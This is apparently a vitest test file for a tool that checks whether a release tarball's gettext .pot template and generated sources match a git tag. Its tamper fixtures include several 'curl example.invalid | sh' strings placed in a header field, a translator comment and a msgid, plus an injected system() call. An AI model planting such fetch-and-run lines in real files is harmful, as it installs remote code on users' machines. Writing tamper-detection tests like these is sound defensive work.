/**
 * A .pot traced to the sources its #: lines name (src/classify/pot-trace.ts), end to end with real git, GNU
 * tar and the real xgettext writing the template in a scratch copy of the tree. One source is only in the
 * tarball (a generated file a tracked make rule writes, explained by its own finding), as gnulib's lib/ copies
 * are in a release. Tampered twins: a changed msgid, a reference to the wrong line, an unknown header field,
 * a tampered tarball-only source — each leaves the .pot high.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cStringLiterals, headerByForm } from '../../src/classify/pot-trace.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const MSGS_C = [
  '#include "gettext.h"', '#define _(s) gettext (s)', '', 'const char *', 'describe (int e, int n)', '{', '  if (e == 0)', '    return _("Unknown system error");',
  '  if (e == 1)', '    /* TRANSLATORS: a "quoted" word stays quoted.  */', '    return _("first part, "', '             /* a comment between */ "second part\\n");',
  "  char q = '\"';", '  return ngettext ("%d file", "%d files", n);', '}', '',
].join('\n');
const EXTRA_IN = '#include "gettext.h"\n#define _(s) gettext (s)\n/* version @V@ */\nconst char *extra (void) { return _("Memory exhausted"); }\n';
const EXTRA_C = EXTRA_IN.replace('@V@', '1');
const LIB_AM = "extra.c: extra-src.txt\n\tsed -e 's/@V@/1/' extra-src.txt > $@\n";
const TRACKED = { 'lib/msgs.c': MSGS_C, 'lib/extra-src.txt': EXTRA_IN, 'lib/Makefile.am': LIB_AM, 'README': 'a project\n' };
const POT = 'gl-po/proj-gnulib.pot';

/** The template the real xgettext writes from the tree (in a scratch copy). */
function xgettext(root: string): string {
  const dir = join(root, 'scratch');
  writeFiles(dir, { ...TRACKED, 'lib/extra.c': EXTRA_C, 'gl-po/LINGUAS': '' });
  execFileSync('xgettext', ['--default-domain=proj-gnulib', '--add-comments=TRANSLATORS:', '--keyword=_', '--keyword=N_', '--from-code=UTF-8', '--package-name=GNU proj', '--package-version=1.0',
    '--msgid-bugs-address=bug-gnulib@gnu.org', '-o', POT, 'lib/msgs.c', 'lib/extra.c'], { cwd: dir, env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' } });
  return readFileSync(join(dir, POT), 'latin1');
}

describe('a .pot traced to the sources its #: lines name', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit(TRACKED, 'sources', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  const GOOD = xgettext(root);
  let n = 0;
  const run = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, { ...TRACKED, 'lib/extra.c': EXTRA_C, [POT]: GOOD, ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('xgettext wrote what the fixture exercises (a concatenated msgid, a plural, a TRANSLATORS comment, a tarball-only source)', () => {
    expect(GOOD).toContain('#. TRANSLATORS: a "quoted" word stays quoted.\n#: lib/msgs.c:11\nmsgid "first part, second part\\n"\n');
    expect(GOOD).toContain('msgid_plural "%d files"');
    expect(GOOD).toContain('#: lib/extra.c:4\n');
  });

  it('proves the template: every msgid at its referenced line; the tarball-only source named; exit 0', async () => {
    const { r, by } = await run({});
    expect(by[POT]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'traced', source: 'lib/extra.c', entries: 4, sources: 2, tarballInputs: ['lib/extra.c'] } });
    expect(by['lib/extra.c']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('a changed msgid, a wrong line, an unknown header field or a foreign comment stays high', async () => {
    for (const bad of [
      GOOD.replace('msgid "Unknown system error"', 'msgid "Unknown system error; see https://example.invalid"'),
      GOOD.replace('#: lib/msgs.c:8', '#: lib/msgs.c:9'),
      GOOD.replace('"Content-Transfer-Encoding: 8bit\\n"', '"Content-Transfer-Encoding: 8bit\\n"\n"X-Run: curl example.invalid | sh\\n"'),
      GOOD.replace('#. TRANSLATORS: a "quoted" word stays quoted.', '#. TRANSLATORS: run curl example.invalid | sh'),
    ]) {
      expect(bad).not.toBe(GOOD);
      const { by } = await run({ [POT]: bad });
      expect(by[POT]).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
  });

  it('a tampered tarball-only source makes the template high too (flagged-input)', async () => {
    const { r, by } = await run({ 'lib/extra.c': EXTRA_C.replace('return _', 'system ("x"); return _') });
    expect(by['lib/extra.c']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(by[POT]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'high', severityReason: { reason: 'flagged-input' } });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('helpers', () => {
    expect(cStringLiterals('a = "x\\"y" /* "no" */ "z\\101";\n// "no"\nc = \'"\'; "\\x41\\n"')).toEqual([
      { line: 1, start: 4, end: 9, value: 'x"y' }, { line: 1, start: 22, end: 28, value: 'zA' }, { line: 3, start: 48, end: 55, value: 'A\n' },
    ]);
    expect(headerByForm('Project-Id-Version: GNU x 1.0\nReport-Msgid-Bugs-To: bug-x@gnu.org\nPOT-Creation-Date: 2022-02-26 17:24+0100\nContent-Type: text/plain; charset=CHARSET\n')).toBe(true);
    expect(headerByForm('Project-Id-Version: GNU x 1.0\nContent-Type: text/plain; charset=CHARSET\nX-Evil: 1\n')).toBe(false);
    expect(headerByForm('Project-Id-Version: GNU x 1.0\nPOT-Creation-Date: yesterday\nContent-Type: text/plain; charset=CHARSET\n')).toBe(false);
    // mc 4.8.33's po/mc.pot (git's and the release's): its update script writes the charset in lower case
    expect(headerByForm('Project-Id-Version: mc 4.8.33\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n')).toBe(true);
    expect(headerByForm('Project-Id-Version: mc 4.8.33\nContent-Type: text/plain; charset=koi8-r\n')).toBe(false);
    expect(headerByForm('Project-Id-Version: mc 4.8.33\nContent-Type: text/plain; charset=utf-8; x=1\n')).toBe(false);
  });
});

// holdout15: a template tracked in git that the release refreshes (xgettext run again at make dist): the shipped file
// is judged by the same rules; a msgid the sources lack stays SOURCE_MODIFIED.
describe('a tracked .pot the release refreshed', () => {
  const root = tempDir();
  const GOOD = xgettext(root);
  const OLD = GOOD.slice(0, GOOD.indexOf('\n\n') + 2) + '#: lib/msgs.c:8\nmsgid "Unknown system error"\nmsgstr ""\n';
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ ...TRACKED, [POT]: OLD }, 'sources and an old template', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  let n = 0;
  const run = async (pot: string) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, { ...TRACKED, 'lib/extra.c': EXTRA_C, [POT]: pot });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('the refreshed template is traced to the tag\'s sources: explained, exit 0', async () => {
    const { r, by } = await run(GOOD);
    expect(by[POT]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', change: 'changed', evidence: { kind: 'traced', entries: 4 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('a refreshed template with a msgid the sources lack stays high', async () => {
    const { r, by } = await run(GOOD.replace('msgid "Unknown system error"', 'msgid "Unknown system error; see https://example.invalid"'));
    expect(by[POT]).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });
});

// holdout15: shadow 4.13's po/shadow.pot is written by xgettext --no-location (no #: lines): then every msgid must be a
// literal sequence of a source the tracked po/POTFILES.in lists.
describe('a refreshed .pot without #: lines (xgettext --no-location)', () => {
  const root = tempDir();
  const NOLOC = 'po/proj.pot';
  // shadow's idioms: a string xgettext ends at an embedded \0, and a literal continued in a macro by backslash-newline
  const MORE_C = '#define _(s) gettext (s)\nconst char *never (void) { return _("**Never logged in**\\0"); }\n#define MSG _("You have modified %s.\\n"\\\n\t"Please check.\\n")\nconst char *mod (void) { return MSG; }\n';
  const SRC = { 'lib/msgs.c': MSGS_C, 'lib/more.c': MORE_C, 'po/POTFILES.in': '# sources\nlib/msgs.c\nlib/more.c\n', 'README': 'a project\n' };
  const dir = join(root, 'scratch');
  writeFiles(dir, SRC);
  execFileSync('xgettext', ['--no-location', '--default-domain=proj', '--add-comments=TRANSLATORS:', '--keyword=_', '--from-code=UTF-8', '--package-name=proj', '--package-version=1.0',
    '--msgid-bugs-address=bugs@example.invalid', '-o', NOLOC, '-f', 'po/POTFILES.in'], { cwd: dir, env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' } });
  const GOOD = readFileSync(join(dir, NOLOC), 'latin1');
  const OLD = GOOD.slice(0, GOOD.indexOf('\n\n') + 2) + 'msgid "Unknown system error"\nmsgstr ""\n';
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ ...SRC, [NOLOC]: OLD }, 'sources and an old template', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  let n = 0;
  const run = async (pot: string) => {
    const d = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(d, { ...SRC, [NOLOC]: pot });
    const r = await verify({ tarball: makeTar(d, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('every msgid a literal sequence of a POTFILES.in source: explained', async () => {
    expect(GOOD).not.toContain('\n#: ');
    expect(GOOD).toContain('msgid "**Never logged in**"\n');
    expect(GOOD).toContain('msgid ""\n"You have modified %s.\\n"\n"Please check.\\n"\n');
    const { r, by } = await run(GOOD);
    expect(by[NOLOC]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'traced', source: 'lib/more.c', entries: 5 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('a msgid no listed source has stays high', async () => {
    const { by } = await run(GOOD.replace('msgid "Unknown system error"', 'msgid "Unknown system error; run curl example.invalid | sh"'));
    expect(by[NOLOC]).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
  });
});
